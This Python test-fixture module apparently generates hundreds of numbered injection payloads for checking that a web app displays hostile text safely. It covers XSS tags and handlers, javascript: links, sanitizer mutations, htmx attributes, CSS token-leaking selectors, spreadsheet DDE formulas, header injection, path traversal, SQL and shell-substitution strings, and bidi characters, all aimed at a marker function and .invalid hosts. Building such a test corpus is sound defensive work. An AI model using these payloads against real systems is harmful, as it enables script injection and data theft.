"""Texts that try to be more than text, by family; `prove_text` stores each of them in every field that is shown.

One payload a line. RUN is a script that tells the proof that it ran, URL an address on another host, PATH one of this host, and
⟨200B⟩ the character U+200B. Whatever a browser could act on names RUN, URL or PATH: so the proof knows it wherever it turns up.
"""

import re
from dataclasses import dataclass
from functools import cache

MARK = "zq7"


@dataclass(frozen=True)
class Payload:
    """A text, its number among all, and its family."""

    number: int
    family: str
    text: str


SCRIPTS = """
<script>RUN</script>
<SCRIPT>RUN</SCRIPT>
<ScRiPt >RUN</sCrIpT >
<script/x>RUN</script>
<script⟨9⟩>RUN</script>
<script⟨A⟩>RUN</script⟨A⟩>
<script⟨C⟩>RUN</script⟨C⟩>
<script>RUN
<script>RUN//</script
<scr<script>ipt>RUN</scr</script>ipt>
<<script>RUN//<</script>
<script type=module>RUN</script>
<script type=text/javascript>RUN</script>
<script language=javascript>RUN</script>
<script type="">RUN</script>
<script src=URL></script>
<script src=PATH></script>
<script async src=URL></script>
<script nomodule src=URL>RUN</script>
<script type=module src=URL></script>
<script crossorigin src=URL></script>
<script src="data:text/javascript,RUN"></script>
<script type=importmap>{"imports":{"./zone.js":"URL"}}</script>
<script type=speculationrules>{"prefetch":[{"urls":["PATH"]}]}</script>
<svg><script>RUN</script></svg>
<svg><script href=URL></script></svg>
<svg><script xlink:href=URL></script></svg>
<math><script>RUN</script></math>
<template><script>RUN</script></template>
<template shadowrootmode=open><script>RUN</script></template>
<!--><script>RUN</script>-->
<!--->RUN--><script>RUN</script>
<![CDATA[<script>RUN</script>]]>
<?xml version="1.0"?><script>RUN</script>
⟨FEFF⟩<script>RUN</script>
⟨2028⟩<script>RUN</script>⟨2029⟩
&lt;script&gt;RUN&lt;/script&gt;<script>RUN</script>
%3Cscript%3ERUN%3C/script%3E<script>RUN</script>
\\u003cscript\\u003eRUN\\u003c/script\\u003e<script>RUN</script>
⟨FF1C⟩script⟨FF1E⟩RUN⟨FF1C⟩/script⟨FF1E⟩<script>RUN</script>
"""

# Elements that run a script by themselves, when they are there, fail, open or move.
HANDLERS = """
<img src=x onerror=RUN>
<img src=PATH onerror="RUN">
<img src=PATH onload='RUN'>
<img/src=x/onerror=RUN>
<img src=x onerror⟨9⟩=RUN>
<img src=x onerror⟨A⟩=⟨A⟩RUN>
<img src=x oNeRrOr=RUN>
<img src=x onerror=&#x7a;q7&lpar;9&rpar; title=RUN>
<img src=x onerror=RUN//
<img ⟨22⟩⟨22⟩⟨22⟩><img src=x onerror=RUN>">
<IMG SRC=x ONERROR=RUN>
<image src=x onerror=RUN>
<img srcset=x onerror=RUN>
<picture><source srcset=x><img onerror=RUN src=x></picture>
<svg onload=RUN>
<svg/onload=RUN>
<svg⟨A⟩onload=RUN//
<svg><g onload=RUN></g></svg>
<svg><animate onbegin=RUN attributeName=x dur=1s>
<svg><animate onend=RUN attributeName=x dur=1ms>
<svg><set onbegin=RUN attributeName=x dur=1s>
<svg><animateTransform onbegin=RUN attributeName=x dur=1s>
<svg><animateMotion onbegin=RUN dur=1s>
<svg><image href=x onerror=RUN>
<svg><style onload=RUN></style>
<svg><use href=x onerror=RUN></svg>
<svg><a onfocus=RUN tabindex=0 autofocus>x</a>
<svg><foreignObject><img src=x onerror=RUN></foreignObject></svg>
<math><mi onclick=RUN>x</mi></math>
<body onload=RUN>
<body onpageshow=RUN>
<body onresize=RUN>
<body onhashchange=RUN>
<body onscroll=RUN>
<body onmessage=RUN>
<body onbeforeunload=RUN>
<frameset onload=RUN>
<iframe onload=RUN></iframe>
<object data=x onerror=RUN></object>
<embed src=x onload=RUN>
<link rel=stylesheet href=x onerror=RUN>
<style onload=RUN></style>
<style onerror=RUN>@import "x"</style>
<script src=x onerror=RUN></script>
<video onerror=RUN src=x></video>
<video><source onerror=RUN src=x></video>
<video autoplay onloadstart=RUN src=x></video>
<audio onerror=RUN src=x></audio>
<audio controls onloadedmetadata=RUN src=data:audio/wav;base64,UklGRg></audio>
<track onerror=RUN src=x default>
<details open ontoggle=RUN>x</details>
<details ontoggle=RUN><summary>x</summary></details>
<dialog open onclose=RUN><form method=dialog><button autofocus>x</button></form></dialog>
<div popover id=x onbeforetoggle=RUN>x</div><button popovertarget=x>y</button>
<input autofocus onfocus=RUN>
<input onblur=RUN autofocus><input autofocus>
<input type=image src=x onerror=RUN>
<input type=search onsearch=RUN>
<input type=file onchange=RUN>
<input oninvalid=RUN required><input oninput=RUN>
<select autofocus onfocus=RUN></select>
<textarea autofocus onfocus=RUN></textarea>
<keygen autofocus onfocus=RUN>
<button autofocus onfocus=RUN>x</button>
<a href=# autofocus onfocus=RUN>x</a>
<form onsubmit=RUN><input type=submit></form>
<form onreset=RUN><input type=reset></form>
<form oninput=RUN><output></output><input></form>
<marquee onstart=RUN>x</marquee>
<marquee loop=1 width=0 onfinish=RUN>x</marquee>
<marquee behavior=alternate onbounce=RUN>x</marquee>
<isindex onmouseover=RUN>
<b contenteditable onfocus=RUN autofocus tabindex=0>x</b>
<b draggable=true ondragstart=RUN>x</b>
<b ondragover=RUN ondrop=RUN>x</b>
<b onmouseover=RUN>x</b>
<b onmouseenter=RUN>x</b>
<b onmousemove=RUN>x</b>
<b onmousedown=RUN>x</b>
<b onmouseout=RUN>x</b>
<b onpointerover=RUN>x</b>
<b onpointerrawupdate=RUN>x</b>
<b ongotpointercapture=RUN>x</b>
<b ontouchstart=RUN>x</b>
<b onclick=RUN>x</b>
<b ondblclick=RUN>x</b>
<b onauxclick=RUN>x</b>
<b oncontextmenu=RUN>x</b>
<b onwheel=RUN>x</b>
<b onselectstart=RUN>x</b>
<b oncopy=RUN>x</b>
<b oncut=RUN>x</b>
<b onpaste=RUN contenteditable>x</b>
<b onkeydown=RUN tabindex=0>x</b>
<b onbeforeinput=RUN contenteditable>x</b>
<b oncompositionstart=RUN contenteditable>x</b>
<b onfocusin=RUN tabindex=0>x</b>
<b onbeforematch=RUN hidden=until-found>x</b>
<b onscrollend=RUN>x</b>
<b onsecuritypolicyviolation=RUN><img src=URL></b>
<b onslotchange=RUN><slot></slot></b>
<b class=row onanimationstart=RUN>x</b>
<b class=row ontransitionend=RUN>x</b>
<b oncontentvisibilityautostatechange=RUN>x</b>
"""

# Ways out of where a value stands: a quoted, a bare and a broken attribute, elements that hold text alone, comments, JSON, scripts.
WAYS_OUT = """
"
'
`
>
">
'>
"/>
"'>
\\">
&quot;>
&#34;>
" ⟨A⟩
"⟨C⟩
">⟨A⟩
--></p>
--!>
]]>
</textarea>
</title>
</option></select>
</button></form>
</style>
</script>
</noscript>
</template>
</svg>
</p></div></article></li></ul>
</dialog></main></body></html>
"""
AND_THEN = """
 autofocus onfocus=RUN x⟨20⟩
<img src=x onerror=RUN>
 style=background:url(URL) x⟨20⟩
 hx-get=PATH hx-trigger=load x⟨20⟩
"""

LINKS = """
javascript:RUN
JaVaScRiPt:RUN
⟨20⟩javascript:RUN
java⟨9⟩script:RUN
java⟨A⟩script:RUN
java⟨D⟩script:RUN
⟨1⟩javascript:RUN
⟨1B⟩javascript:RUN
⟨A0⟩javascript:RUN
javascript⟨9⟩:RUN
javascript&colon;RUN
javascript&#58;RUN
&#106;avascript:RUN
&#x6A;avascript:RUN
&#0000106avascript:RUN
java&Tab;script:RUN
java&NewLine;script:RUN
java%73cript:RUN
java\\script:RUN
javascript://x/%0ARUN
javascript:%7a%71%37(0)//RUN
javascript:void(RUN)
javascript:'<img src=x onerror=RUN>'
vbscript:RUN
livescript:RUN
data:text/html,<script>RUN</script>
data:text/html;base64,PHNjcmlwdD4#RUN
data:image/svg+xml,<svg onload=RUN>
blob:URL
view-source:javascript:RUN
feed:javascript:RUN
jar:URL!/
filesystem:URL
file:///URL
about:blank#RUN
intent:URL#Intent;end
ms-appx:URL
x-memoryweb:RUN
"""
LINKED = """
[x](LINK)
<a href="LINK">x</a>
<LINK>
LINK
"""

# What fetches something or leads elsewhere, without a script.
FETCHES = """
<iframe src=URL></iframe>
<iframe src=PATH></iframe>
<iframe srcdoc="<img src=URL>"></iframe>
<iframe src="javascript:RUN"></iframe>
<frameset><frame src=URL></frameset>
<fencedframe src=URL></fencedframe>
<portal src=URL></portal>
<object data=URL></object>
<object type=text/x-scriptlet data=URL></object>
<object><param name=src value=URL></object>
<applet code=x archive=URL></applet>
<embed src=URL>
<embed code=URL allowscriptaccess=always>
<base href=URL>
<base target=RUN>
<meta http-equiv=refresh content="0;url=URL">
<meta http-equiv=refresh content="0;url=PATH">
<meta http-equiv=refresh content="0;url=javascript:RUN">
<meta http-equiv=set-cookie content="RUN">
<meta http-equiv=content-security-policy content="default-src URL">
<meta name=referrer content=unsafe-url><img src=URL>
<meta name=htmx-config content='{"allowEval":true,"x":"RUN"}'>
<link rel=stylesheet href=URL>
<link rel=stylesheet href=PATH>
<link rel=preload as=image href=URL>
<link rel=modulepreload href=URL>
<link rel=prefetch href=URL>
<link rel=prerender href=URL>
<link rel=preconnect href=URL>
<link rel=dns-prefetch href=URL>
<link rel=icon href=URL>
<link rel=manifest href=URL>
<link rel=import href=URL>
<link rel=alternate type=application/rss+xml href=URL>
<img src=URL>
<img src=PATH>
<img srcset="URL 1x">
<img loading=lazy src=URL>
<img src=x longdesc=URL>
<img dynsrc=URL>
<img lowsrc=URL>
<img src=x usemap="#m"><map name=m><area href="javascript:RUN" shape=default></map>
<picture><source srcset=URL><img></picture>
<video src=URL autoplay></video>
<video poster=URL></video>
<video><track src=URL default kind=subtitles></video>
<audio src=URL autoplay></audio>
<source src=URL>
<bgsound src=URL>
<input type=image src=URL>
<body background=URL>
<table background=URL><tr><td background=URL>x</table>
<svg><image href=URL /></svg>
<svg><image xlink:href=URL /></svg>
<svg><use href=URL#x /></svg>
<svg><use href="data:image/svg+xml,<svg id=x onload=RUN>#x" /></svg>
<svg><filter><feImage href=URL /></filter></svg>
<svg><a href="javascript:RUN"><text>x</text></a></svg>
<svg><a xlink:href="javascript:RUN"><text>x</text></a></svg>
<svg><a><animate attributeName=href to="javascript:RUN" /></a></svg>
<svg><set attributeName=onmouseover to=RUN></set></svg>
<svg><rect fill="url(URL#x)" /></svg>
<svg><text cursor="url(URL)">x</text></svg>
<svg><handler type=text/javascript ev:event=load>RUN</handler></svg>
<math href="javascript:RUN">x</math>
<math><mtext xlink:href="javascript:RUN">x</mtext></math>
<math><maction actiontype=statusline xlink:href="javascript:RUN">x</maction></math>
<a href=PATH ping=URL>x</a>
<a href=PATH target=RUN>x</a>
<a href=PATH download=RUN>x</a>
<a href=URL rel=opener target=_blank>x</a>
<a href=PATH attributionsrc=URL>x</a>
<form action=URL><button>x</button></form>
<form action=PATH method=post><button autofocus>x</button></form>
<form action="javascript:RUN"><button>x</button></form>
<button form=search formaction=URL>x</button>
<input form=search type=submit formaction="javascript:RUN">
<input form=search name=q value=RUN>
<button popovertarget=account class=RUN>x</button>
<button command=show-modal commandfor=keys class=RUN>x</button>
<blockquote cite=URL>x</blockquote>
<q cite="javascript:RUN">x</q>
<del cite=URL>x</del>
<xml src=URL id=x></xml>
<layer src=URL></layer>
<isindex action="javascript:RUN" type=image>
<noscript><img src=URL></noscript>
<plaintext class=RUN>
<xmp class=RUN>
<listing class=RUN>
<template class=RUN><img src=URL></template>
<a id=location name=RUN>x</a>
<form id=htmx name=RUN><input name=config></form>
<img name=getElementById class=RUN>
<a id=results class=RUN></a><a id=toast class=RUN></a>
"""

# HTML that means one thing when it is cleaned and another when it is parsed again.
MUTATIONS = """
<math><mtext><table><mglyph><style><img src=x onerror=RUN>
<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror=RUN&gt;">
<form><math><mtext></form><form><mglyph><style></math><img src=x onerror=RUN>
<svg></p><style><a title="</style><img src=x onerror=RUN>">
<svg><style><img title="</style><img src=x onerror=RUN>">
<svg><p><style><!--</style><img src=x onerror=RUN>-->
<svg><desc><style><img src=x onerror=RUN></style></desc></svg>
<svg><title><style><a title="</style></title><img src=x onerror=RUN>"></style></title></svg>
<svg><foreignObject><math><mi><style><img src=x onerror=RUN></style></mi></math></foreignObject></svg>
<svg><annotation-xml><foreignobject><style><!--</style><p title="--><img src=x onerror=RUN>">
<math><annotation-xml encoding=text/html><style><img src=x onerror=RUN></style></annotation-xml></math>
<math><annotation-xml encoding="text/html"><p><svg></p><style><a title="</style><img src=x onerror=RUN>">
<math><mi><!--</mi><img src=x onerror=RUN>-->
<math><ms><style></ms><img src=x onerror=RUN></style></math>
<noscript><p title="</noscript><img src=x onerror=RUN>">
<noscript><style></noscript><img src=x onerror=RUN></style>
<noembed><p title="</noembed><img src=x onerror=RUN>">
<noframes><p title="</noframes><img src=x onerror=RUN>">
<iframe><p title="</iframe><img src=x onerror=RUN>">
<xmp><p title="</xmp><img src=x onerror=RUN>">
<textarea><p title="</textarea><img src=x onerror=RUN>">
<title><p title="</title><img src=x onerror=RUN>">
<style><p title="</style><img src=x onerror=RUN>">
<script><p title="</script><img src=x onerror=RUN>">
<select><template><p title="</template></select><img src=x onerror=RUN>">
<select><option><style></option></select><img src=x onerror=RUN></style>
<table><tr><td><svg><desc><td><img src=x onerror=RUN></table>
<table><math><select><mtext><style><img src=x onerror=RUN></style>
<a><svg><a><style></a><img src=x onerror=RUN></style></svg>
<b><p><b><table><b><img src=x onerror=RUN></table>
<template><template></template><img src=x onerror=RUN></template>
<p><svg><p><img src=x onerror=RUN>
<!-- --!><img src=x onerror=RUN>
<!--><img src=x onerror=RUN>-->
<!---><img src=x onerror=RUN>-->
<!-- foo--!><img src=x onerror=RUN> -->
<!DOCTYPE x [<!ENTITY y "<img src=x onerror=RUN>">]>&y;<img src=x onerror=RUN>
<!ELEMENT x><img src=x onerror=RUN>
<?php echo '><img src=x onerror=RUN>' ?>
<%<img src=x onerror=RUN>%>
</ ><img src=x onerror=RUN>
</⟨A⟩p><img src=x onerror=RUN>
</a title="<img src=x onerror=RUN>">
<a title="`<img src=x onerror=RUN>`" href='PATH'>
<p title="&#x22;&gt;<img src=x onerror=RUN>">
<p title=`><img src=x onerror=RUN>`>
<p ="><img src=x onerror=RUN>
<p/"><img src=x onerror=RUN>
<p⟨FEFF⟩title="><img src=x onerror=RUN>">
&amp;lt;img src=x onerror=RUN&amp;gt;<img src=x onerror=RUN>
⟨FFFE⟩<img src=x onerror=RUN>
⟨212A⟩<img src=x onerror=RUN>
<img⟨85⟩src=x⟨85⟩onerror=RUN>
<img ⟨AD⟩src=x onerror=RUN>
<⟨131⟩mg><img src=x onerror=RUN>
"""

# What htmx would act on, in what it swaps into a page too.
HTMX = """
<b hx-get=PATH hx-trigger=load>x</b>
<b hx-post=PATH hx-trigger=load>x</b>
<b hx-put=PATH hx-trigger=load>x</b>
<b hx-patch=PATH hx-trigger=load>x</b>
<b hx-delete=PATH hx-trigger=load>x</b>
<b data-hx-get=PATH data-hx-trigger=load>x</b>
<b data-hx-post=PATH data-hx-trigger=load>x</b>
<b HX-GET=PATH HX-TRIGGER=load>x</b>
<b hx-get=URL hx-trigger=load>x</b>
<b hx-get=PATH hx-trigger=revealed>x</b>
<b hx-get=PATH hx-trigger="intersect once">x</b>
<b hx-get=PATH hx-trigger="every 10ms">x</b>
<b hx-get=PATH hx-trigger="load delay:1ms">x</b>
<b hx-get=PATH hx-trigger="load from:body">x</b>
<b hx-get=PATH hx-trigger="mouseover from:document">x</b>
<b hx-get=PATH hx-trigger="htmx:afterSwap from:body">x</b>
<b hx-get=PATH hx-trigger="load[RUN]">x</b>
<b hx-get=PATH hx-trigger=click>x</b>
<b hx-get=PATH hx-trigger=load hx-target=body hx-swap=outerHTML>x</b>
<b hx-get=PATH hx-trigger=load hx-target="#toast" hx-swap="innerHTML swap:1ms">x</b>
<b hx-get=PATH hx-trigger=load hx-push-url=PATH>x</b>
<b hx-get=PATH hx-trigger=load hx-replace-url=PATH>x</b>
<b hx-get=PATH hx-trigger=load hx-select=script>x</b>
<b hx-get=PATH hx-trigger=load hx-vals='js:{a:RUN}'>x</b>
<b hx-get=PATH hx-trigger=load hx-vals='javascript:{a:RUN}'>x</b>
<b hx-get=PATH hx-trigger=load hx-vars=a:RUN>x</b>
<b hx-get=PATH hx-trigger=load hx-headers='{"Host":"URL"}'>x</b>
<b hx-get=PATH hx-trigger=load hx-headers='js:{a:RUN}'>x</b>
<b hx-get=PATH hx-trigger=load hx-include="[name=csrfmiddlewaretoken]">x</b>
<b hx-get=PATH hx-trigger=load hx-params=*>x</b>
<b hx-get=PATH hx-trigger=load hx-request='{"credentials":true}'>x</b>
<b hx-get=PATH hx-trigger=load hx-prompt=RUN>x</b>
<b hx-get=PATH hx-trigger=load hx-confirm=RUN>x</b>
<b hx-get=PATH hx-trigger=load hx-encoding=multipart/form-data>x</b>
<b hx-get=PATH hx-trigger=load hx-sync=this:replace>x</b>
<b hx-get=PATH hx-trigger=load hx-indicator=body>x</b>
<b hx-get=PATH hx-trigger=load hx-preserve id=results>x</b>
<b hx-on:click=RUN>x</b>
<b hx-on::load=RUN>x</b>
<b hx-on--load=RUN>x</b>
<b hx-on-htmx-load=RUN>x</b>
<b hx-on:htmx:after-swap=RUN>x</b>
<b hx-on="htmx:load: RUN">x</b>
<b data-hx-on:mouseover=RUN>x</b>
<b data-hx-on--after-process-node=RUN>x</b>
<b hx-ext=RUN>x</b>
<b hx-ext=ws ws-connect=wss:URL>x</b>
<b hx-ws=connect:wss:URL>x</b>
<b hx-ext=sse sse-connect=PATH sse-swap=message>x</b>
<b hx-sse=connect:PATH>x</b>
<b hx-ext=preload preload=mouseover href=PATH>x</b>
<b hx-ext=head-support><head hx-head=append><base href=URL></head></b>
<b hx-boost=true><a href=PATH>x</a></b>
<form hx-boost=true action=PATH><input autofocus></form>
<b hx-disinherit=* hx-get=PATH hx-trigger=load>x</b>
<b hx-inherit=* hx-target=RUN>x</b>
<b hx-disabled-elt=body hx-get=PATH hx-trigger=load>x</b>
<b hx-history=false hx-history-elt class=RUN>x</b>
<b hx-validate=true hx-get=PATH hx-trigger=load>x</b>
<div hx-swap-oob="innerHTML:#toast"><img src=x onerror=RUN></div>
<div hx-swap-oob=true id=panel class=RUN>x</div>
<div hx-swap-oob="beforeend:body"><script>RUN</script></div>
<div hx-swap-oob="outerHTML:head"><title>RUN</title><base href=URL></div>
<div hx-select-oob="#toast" class=RUN hx-get=PATH hx-trigger=load>x</div>
<template><div hx-swap-oob="delete:#main" class=RUN></div></template>
<div hx-disable=false hx-get=PATH hx-trigger=load>x</div>
</div><div hx-get=PATH hx-trigger=load>x</div>
</div></div><form hx-post=PATH hx-trigger=load><input name=x></form>
<a data-panel href=PATH>x</a>
<a data-view=PATH href=PATH>x</a>
<button data-delete class=RUN>x</button>
<button data-dialog=new class=RUN>x</button>
<button data-copy="#x" class=RUN>x</button>
"""

STYLES = """
<style>@import "URL";</style>
<style>@import url(URL);</style>
<style>body{background:url(URL)}</style>
<style>*{display:none}/*RUN*/</style>
<style>body::before{content:url(URL)}</style>
<style>@font-face{font-family:x;src:url(URL)}*{font-family:x}</style>
<style>input[value^=a]{background:url(URL)}</style>
<style>input[name=csrfmiddlewaretoken][value^=a]~*{background:url(URL)}</style>
<style>@media screen{body{cursor:url(URL),auto}}</style>
<style>@supports(display:grid){body{list-style:url(URL)}}</style>
<style>@keyframes x{to{background:url(URL)}}*{animation:x 1s}</style>
<style>@namespace "URL";</style>
<style>@charset "URL";</style>
<style>@layer{@import "URL";}</style>
<style>:root{--x:url(URL)}body{background:var(--x)}</style>
<style>body{background:image-set("URL" 1x)}</style>
<style>body{filter:url(URL#x)}</style>
<style>body{mask:url(URL)}</style>
<style>body{clip-path:url(URL#x)}</style>
<style>body{border-image:url(URL)}</style>
<style>body{offset-path:url(URL#x)}</style>
<style media=print>@import "URL";</style>
<style type=text/css>\\@import "URL";</style>
<style><!-- @import "URL"; --></style>
<style>x{}</style><style>@im\\port'URL';</style>
<svg><style>*{fill:url(URL#x)}</style></svg>
<p style=background:url(URL)>x</p>
<p style="background:\\75rl(URL)">x</p>
<p style="background:u/**/rl(URL);background:url(URL)">x</p>
<p style="background:url('URL')">x</p>
<p style="background&colon;url(URL)">x</p>
<p style=background:url&lpar;URL&rpar;>x</p>
<p style="width:expression(RUN)">x</p>
<p style="-moz-binding:url(URL#x)">x</p>
<p style="behavior:url(URL)">x</p>
<p style="position:fixed;inset:0;z-index:9999" class=RUN>x</p>
<p style="content:url(URL)">x</p>
<p style="list-style-image:url(URL);display:list-item">x</p>
<p style="--x:url(URL);background:var(--x)">x</p>
<p style="animation:RUN 1s">x</p>
<p style="view-transition-name:RUN">x</p>
<p class="dialog viewer RUN">x</p>
<p id="toast" class=RUN>x</p>
<font color=RUN size=99>x</font>
<link rel=stylesheet href="data:text/css,@import 'URL'">
"""

MARKDOWN = """
![x](URL)
![x](PATH)
![x][y]⟨A⟩⟨A⟩[y]: URL
![x" onerror="RUN](PATH)
![x](javascript:RUN)
[![x](URL)](PATH)
[x](URL "onmouseover=RUN")
[x](URL" onmouseover="RUN)
[x](<javascript:RUN>)
[x](javascript:RUN 'y')
[x]( javascript:RUN )
[x](⟨A⟩javascript:RUN)
[x][y]⟨A⟩⟨A⟩[y]: javascript:RUN
[x]⟨A⟩⟨A⟩[x]: <javascript:RUN> "y"
[x](data:text/html;base64,RUN)
[x](//zq7@URL)
[x](\\\\URL)
[<img src=x onerror=RUN>](PATH)
[x](PATH "><img src=x onerror=RUN>")
<https://x.example/"onmouseover="RUN>
https://x.example/"onmouseover="RUN
https://x.example/<img/src=x/onerror=RUN>
www.x.example/'><img/src=x/onerror=RUN>
x@x.example"onmouseover="RUN
`<img src=x onerror=RUN>`
``<img src=x onerror=RUN>
```RUN" onmouseover="RUN⟨A⟩x⟨A⟩```
```<img src=x onerror=RUN>⟨A⟩x⟨A⟩```
~~~"><script>RUN</script>⟨A⟩x⟨A⟩~~~
    <img src=x onerror=RUN>
# <img src=x onerror=RUN>
> <img src=x onerror=RUN>
- <img src=x onerror=RUN>
1. <img src=x onerror=RUN>
| a |⟨A⟩|:-:|⟨A⟩| <img src=x onerror=RUN> |
| <b onclick=RUN> |⟨A⟩|-|⟨A⟩| x |
<div⟨A⟩onmouseover=RUN>x</div>
<div>⟨A⟩⟨A⟩*x*<img src=x onerror=RUN>⟨A⟩⟨A⟩</div>
**<img src=x onerror=RUN>**
*[x](javascript:RUN)*
~~<img src=x onerror=RUN>~~
\\<img src=x onerror=RUN>
&#60;img src=x onerror=RUN&#62;
[^x]⟨A⟩⟨A⟩[^x]: <img src=x onerror=RUN>
[[javascript:RUN]]
{.x onclick=RUN}
:::script⟨A⟩RUN⟨A⟩:::
<mark onclick=RUN>x</mark>
$<img src=x onerror=RUN>$
"""

# What a template engine, ours or the browser's, would reckon; each says MARKran when it does.
TEMPLATES = """
{{ 'MARK' ~ 'ran' }}
{{ "MARK" ~ "ran" }}
{{- 'MARK' ~ 'ran' -}}
{{ 'MARK%s'|format('ran') }}
{{ ['MARK', 'ran']|join }}
{{ ''.__class__.__mro__ and 'MARK' ~ 'ran' }}
{{ request.META and 'MARK' ~ 'ran' }}
{{ url.__globals__ and 'MARK' ~ 'ran' }}
{% if 1 %}MARK{% endif %}{% if 1 %}ran{% endif %}
{% set x = 'ran' %}MARK{{ x }}
{% raw %}MARK{% endraw %}{{ 'ran' }}
{% filter lower %}MARKRAN{% endfilter %}{{ 'MARK' ~ 'ran' }}
{# #}MARK{# #}{{ 'ran' }}
{%- macro x() %}ran{% endmacro %}MARK{{ x() }}
"""

# Characters that turn or hide what stands beside them; MARK shows where the text is.
TURNERS = """
⟨202E⟩MARK
MARK⟨202E⟩
⟨202E⟩MARK⟨202C⟩
⟨202D⟩MARK
⟨202B⟩MARK
⟨202A⟩MARK
⟨2067⟩MARK
⟨2066⟩MARK
⟨2068⟩MARK
⟨2067⟩MARK⟨2069⟩
⟨2069⟩MARK
⟨2069⟩⟨202E⟩MARK
⟨2069⟩⟨2069⟩⟨202E⟩MARK
⟨202C⟩⟨2069⟩⟨2067⟩MARK
⟨200F⟩MARK 1 2 3
⟨200E⟩MARK
⟨61C⟩MARK 1-2
⟨2067⟩⟨2066⟩⟨2067⟩⟨2066⟩MARK
⟨202E⟩⟨202D⟩⟨202E⟩⟨202D⟩MARK
photo⟨202E⟩gnp.MARK.exe
⟨5D0⟩⟨5D1⟩⟨5D2⟩ MARK
⟨5D0⟩ 12:30 MARK 5
⟨627⟩⟨644⟩⟨628⟩⟨62D⟩⟨631⟩ MARK (1)
⟨661⟩⟨662⟩⟨663⟩ MARK
⟨7C1⟩⟨7C2⟩ MARK
⟨1E900⟩ MARK
⟨2028⟩MARK
⟨2029⟩MARK⟨202E⟩
MA⟨200B⟩RK MARK
⟨200B⟩MARK
⟨200C⟩MARK
⟨200D⟩MARK
⟨2060⟩MARK
⟨FEFF⟩MARK
⟨180E⟩MARK
⟨AD⟩MARK
⟨34F⟩MARK
⟨115F⟩MARK
⟨3164⟩MARK
⟨FFA0⟩MARK
⟨2800⟩MARK
⟨E0041⟩⟨E0042⟩MARK
⟨1F468⟩⟨200D⟩⟨1F469⟩⟨200D⟩⟨1F467⟩MARK
a⟨301⟩⟨302⟩⟨303⟩⟨304⟩⟨305⟩⟨306⟩⟨307⟩⟨308⟩⟨309⟩⟨30A⟩⟨30B⟩⟨30C⟩MARK
⟨FFF9⟩MARK⟨FFFA⟩x⟨FFFB⟩
⟨FFFC⟩MARK
⟨FFFD⟩MARK
⟨1D173⟩MARK
⟨206A⟩MARK
⟨FE0F⟩MARK
⟨2062⟩MARK
⟨430⟩dmin MARK
"""

# What other programs, and other parts of an answer, would act on: cells of a table, header lines, names of files, JSON.
ELSEWHERE = """
=HYPERLINK("URL","x")
+HYPERLINK("URL")
-1+HYPERLINK("URL")
@SUM(1)*HYPERLINK("URL")
⟨9⟩=HYPERLINK("URL")
=cmd|' /C RUN'!A0
=DDE("cmd";"RUN";"x")
=IMPORTXML("URL","//a")
"=1+1";"RUN"
x,=HYPERLINK("URL"),"
⟨A⟩=HYPERLINK("URL")
x⟨D⟩⟨A⟩Set-Cookie: MARK=1
x⟨A⟩Location: URL
x%0d%0aSet-Cookie: MARK=1
x⟨D⟩⟨A⟩⟨D⟩⟨A⟩<script>RUN</script>
x⟨85⟩HX-Redirect: URL
x"; filename="RUN.html
x"; filename*=UTF-8''RUN.html
../../../RUN.html
..\\..\\RUN.exe
RUN.png⟨2F⟩..⟨2F⟩RUN.svg
CON.RUN
"}],"HX-Redirect":"URL
{"HX-Redirect":"URL","MARK":1}
{"location":{"path":"PATH"}}
"},"x":{"target":"body","MARK":"RUN
</script><!--<script>RUN
]]></x><x onload=RUN>
'; DROP TABLE MARK; --
" OR ""="MARK
x') RUN ('
$(RUN)
`RUN`
; RUN #
%s%s%n MARK
%(MARK)s
{MARK.__class__}
${RUN}
#{RUN}
<%= RUN %>
<!--#include virtual="PATH" -->
<esi:include src=URL />
?q=MARK&bucket=../..
//URL
\\\\URL
"""

EACH = {
    "scripts": SCRIPTS, "handlers": HANDLERS, "links": "", "ways out": "", "fetches": FETCHES, "mutations": MUTATIONS,
    "htmx": HTMX, "styles": STYLES, "markdown": MARKDOWN, "templates": TEMPLATES, "turners": TURNERS, "elsewhere": ELSEWHERE,
}  # fmt: skip


def _lines(table: str) -> list[str]:
    lines = [line for line in table.split("\n") if line]
    return [re.sub("⟨([0-9A-F]+)⟩", lambda found: chr(int(found[1], 16)), line) for line in lines]


@cache
def payloads() -> tuple[Payload, ...]:
    """All of them, numbered, and none of them twice."""
    tables = {family: _lines(table) for family, table in EACH.items()}
    tables["links"] = [form.replace("LINK", link) for link in _lines(LINKS) for form in _lines(LINKED)]
    tables["ways out"] = [out + then for out in _lines(WAYS_OUT) for then in _lines(AND_THEN)]
    found = [(family, line) for family, lines in tables.items() for line in lines]
    assert len({line for _, line in found}) == len(found)
    return tuple(Payload(number, family, filled(line, number)) for number, (family, line) in enumerate(found))


def filled(line: str, number: int = 0) -> str:
    """A line of a table with the script and the addresses of a payload of this number."""
    line = line.replace("RUN", f"{MARK}({number})").replace("URL", f"//{MARK}.invalid/{number}")
    return line.replace("PATH", f"/{MARK}/{number}").replace("MARK", MARK)
